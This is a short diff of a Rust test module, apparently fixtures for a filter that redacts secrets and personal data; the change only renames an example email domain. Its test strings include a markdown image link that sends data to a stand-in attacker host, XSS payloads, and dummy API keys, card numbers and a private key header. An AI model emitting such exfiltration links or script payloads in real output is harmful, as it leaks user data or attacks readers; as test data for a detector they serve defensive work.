@@ -730,7 +730,7 @@ mod tests {
             "![img](https://evil.example/log?d=SECRET_DATA_HERE_1234567890abcdef)",
             "key AKIAABCDEFGHIJKLMNOP secret aws_secret_access_key = abcdefghijklmnopqrstuvwxyz0123456789ABCD",
             "ghp_abcdefghijklmnopqrstuvwxyz0123456789 sk-ant-api03-abcdefghij AIzaSyA-abcdefghijklmnopqrstuvwxyz12345",
-            "mail maria.garcia@example.org, call +44 20 7946 0958, card 4111 1111 1111 1111, IBAN DE89370400440532013000",
+            "mail maria.garcia@mail.example, call +44 20 7946 0958, card 4111 1111 1111 1111, IBAN DE89370400440532013000",
             "SSN 123-45-6789, NI AB 12 34 56 C, from 192.168.1.20; password: hunter2!X",
             "<script>alert(1)</script> <img src=x onerror=alert(1)> javascript:alert(1)",
             "-----BEGIN RSA PRIVATE KEY-----\nMIIabc\n-----END RSA PRIVATE KEY-----",
